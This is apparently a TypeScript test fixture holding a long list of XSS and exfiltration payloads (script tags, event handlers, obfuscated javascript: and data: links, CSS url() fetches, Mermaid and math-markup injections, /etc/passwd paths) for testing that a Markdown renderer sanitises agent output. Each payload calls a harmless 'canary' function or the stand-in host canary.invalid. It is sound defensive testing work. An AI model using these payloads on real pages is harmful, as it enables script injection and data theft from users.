/**
 * What an agent that was talked into it could write to run something in the page or to send something
 * out of it. Each calls `canary` or asks for `canary.invalid`. Drawn by Markdown.test.tsx and by
 * tests/e2e/xss.spec.ts.
 */
const SCRIPTS = [
  '<script>canary(1)</script>',
  '<SCRIPT SRC=https://canary.invalid/x.js></SCRIPT>',
  '<scr<script>ipt>canary(1)</scr</script>ipt>',
  '<script\n>canary(1)</script\n>',
  '<script/x>canary(1)</script>',
  '<script>canary(1)',
  '<<script>canary(1);//<</script>',
  '</p><script>canary(1)</script><p>',
  '</textarea></title></style><script>canary(1)</script>',
  '<!--><script>canary(1)</script>-->',
  '<![CDATA[<script>canary(1)</script>]]>',
  '<?xml version="1.0"?><script>canary(1)</script>',
  '- <script>canary(1)</script>',
  '> <script>canary(1)</script>',
  '# <script>canary(1)</script>',
  '| <script>canary(1)</script> | b |\n|---|---|\n| <img src=x onerror=canary(1)> | c |',
  '**<script>canary(1)</script>**',
  '[^x]\n\n[^x]: <script>canary(1)</script>'
]

const HANDLERS = [
  '<img src=x onerror=canary(1)>',
  '<img src="x" onerror="canary(1)" />',
  '<img/src=x/onerror=canary(1)>',
  '<img src=x:x onerror\n=\ncanary(1)>',
  '<image src=x onerror=canary(1)>',
  '<svg onload=canary(1)>',
  '<svg><script>canary(1)</script></svg>',
  '<svg><animate onbegin=canary(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:canary(1)"><text x=20 y=20>go</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.canary(1)</script>"></foreignObject></svg>',
  '<body onload=canary(1)>',
  '<body background="https://canary.invalid/b.png">',
  '<input autofocus onfocus=canary(1)>',
  '<select autofocus onfocus=canary(1)>',
  '<textarea autofocus onfocus=canary(1)>',
  '<details open ontoggle=canary(1)>',
  '<video><source onerror=canary(1)></video>',
  '<video poster="https://canary.invalid/p.png" src="https://canary.invalid/v.mp4" autoplay></video>',
  '<audio src=x onerror=canary(1)>',
  '<marquee onstart=canary(1)>x</marquee>',
  '<div onpointerover="canary(1)">x</div>',
  '<div style="width:100vw;height:100vh;position:fixed;top:0;left:0" onclick=canary(1)></div>',
  '<p style="background:url(https://canary.invalid/s.png)">x</p>',
  '<object data="javascript:canary(1)">',
  '<embed src="javascript:canary(1)">',
  '<iframe src="javascript:canary(1)"></iframe>',
  '<iframe src="https://canary.invalid/"></iframe>',
  '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
  '<form action="javascript:canary(1)"><button>x</button></form>',
  '<button formaction="javascript:canary(1)">x</button>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>',
  '<math href="javascript:canary(1)">x</math>',
  '<isindex type=image src=1 onerror=canary(1)>',
  '<link rel=stylesheet href="https://canary.invalid/s.css">',
  '<link rel=prefetch href="https://canary.invalid/p">',
  '<style>@import "https://canary.invalid/s.css";</style>',
  '<style>*{background:url(https://canary.invalid/a)}</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:canary(1)">',
  '<meta http-equiv="refresh" content="0;url=https://canary.invalid/">',
  '<base href="https://canary.invalid/">',
  '<template><img src=x onerror=canary(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=canary(1)>">',
  '<x onclick=canary(1) tabindex=1 id=x autofocus>',
  '<a href="javascript:canary(1)">x</a>',
  '<a href="https://example.com" onclick="canary(1)">x</a>',
  '<bgsound src="https://canary.invalid/s.wav">',
  '<portal src="https://canary.invalid/">'
]

const LINKS = [
  '[x](javascript:canary(1))',
  '[x](JaVaScRiPt:canary(1))',
  '[x]( javascript:canary(1))',
  '[x](<javascript:canary(1)>)',
  '[x](<java\tscript:canary(1)>)',
  '[x](&#106;&#97;vascript:canary(1))',
  '[x](&#x6A;avascript&colon;canary(1))',
  '[x](javascript&#58;canary(1))',
  '[x](java&#x0A;script:canary(1))',
  '[x](%6a%61vascript:canary(1))',
  '[x](\u0001javascript:canary(1))',
  '[x](\u200bjavascript:canary(1))',
  '[x](javascript://example.com/%0Acanary(1))',
  '[x](https:javascript:canary(1))',
  '[x](vbscript:canary(1))',
  '[x](data:text/html,<script>canary(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)',
  '[x](data:image/svg+xml,<svg onload=canary(1)>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://canary.invalid/1)',
  '[x](view-source:https://canary.invalid)',
  '[x](//canary.invalid/x)',
  '[x](\\\\canary.invalid\\share)',
  '[x](https://example.com/"onmouseover="canary(1))',
  '[x](https://example.com/ "\\" onmouseover=canary(1) x=\\"")',
  '[x](<https://example.com/" onclick="canary(1)>)',
  '[x](https://user:pass@example.com\u202e)',
  '<javascript:canary(1)>',
  '<data:text/html,canary>',
  '[x][r]\n\n[r]: javascript:canary(1)',
  '[x][r]\n\n[r]: <javascript:canary(1)> "t"',
  '[__proto__]\n\n[__proto__]: javascript:canary(1)',
  '[constructor] [toString] [hasOwnProperty]',
  '[![x](javascript:canary(1))](javascript:canary(1))',
  'javascript:canary(1)',
  'www.example.com/<script>canary(1)</script>',
  'https://example.com/?<img src=x onerror=canary(1)>'
]

const PICTURES = [
  '![x](https://canary.invalid/p.png)',
  '![x](http://canary.invalid:80/p.png "t")',
  '![x](//canary.invalid/p.png)',
  '![x](javascript:canary(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgxKSIvPg==)',
  '![x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)',
  '![x" onerror="canary(1)](https://canary.invalid/q.png)',
  '![<img src=x onerror=canary(1)>](x)',
  '![x][p]\n\n[p]: https://canary.invalid/r.png',
  '![x](/api/projects)',
  '![x](../../../../etc/passwd)'
]

const CODE = [
  '```<script>canary(1)</script>\nx\n```',
  '```html\n<script>canary(1)</script><img src=x onerror=canary(1)>\n```',
  '```js" onclick="canary(1)\nx\n```',
  '```"><img/src=x/onerror=canary(1)>\nx\n```',
  '```__proto__\nx\n```',
  '```constructor\nx\n```',
  '```diff\n+<script>canary(1)</script>\n-<img src=x onerror=canary(1)>\n```',
  '```ts\n<script>canary(1)',
  '    <script>canary(1)</script>',
  '`<script>canary(1)</script>`',
  '`javascript:canary(1):12`',
  '~~~xml\n<!DOCTYPE x [<!ENTITY e SYSTEM "https://canary.invalid/e">]>\n~~~'
]

const MATH = [
  '$\\href{javascript:canary(1)}{x}$',
  '$\\url{javascript:canary(1)}$',
  '$\\includegraphics{https://canary.invalid/i.png}$',
  '$\\htmlClass{x}{y} \\htmlId{root}{y}$',
  '$\\htmlStyle{background:url(https://canary.invalid/k)}{x}$',
  '$\\htmlData{onclick=canary(1)}{x}$',
  '$\\text{<script>canary(1)</script>}$',
  '$\\text{<img src=x onerror=canary(1)>}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$$\\color{red;background:url(https://canary.invalid/c)}x$$',
  '\\[ \\unicode{x3c}script\\unicode{x3e} \\]'
]

const DIAGRAMS = [
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=canary(1)>"] --> B["<script>canary(1)</script>"]\n```',
  '```mermaid\nflowchart LR\n  A --> B\n  click A "javascript:canary(1)" "go"\n  click B call canary(1)\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src=x onerror=canary(1)>"]\n```',
  '```mermaid\n%%{init: {"themeCSS": "*{background:url(https://canary.invalid/m)}"}}%%\nflowchart LR\n  A --> B\n```',
  '```mermaid\n%%{init: {"fontFamily": "x\\"}</style><script>canary(1)</script>"}}%%\nflowchart LR\n  A --> B\n```',
  '```mermaid\nflowchart LR\n  A@{ img: "https://canary.invalid/i.png", label: "x", w: 60, h: 60 }\n```',
  '```mermaid\nsequenceDiagram\n  A->>B: <iframe srcdoc="<script>parent.canary(1)</script>">\n  link A: x @ javascript:canary(1)\n```',
  '```mermaid\nclassDiagram\n  class A { +x() }\n  link A "javascript:canary(1)"\n  callback A "canary"\n```'
]

export const hostileMarkdown: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...PICTURES,
  ...CODE,
  ...MATH,
  ...DIAGRAMS
]
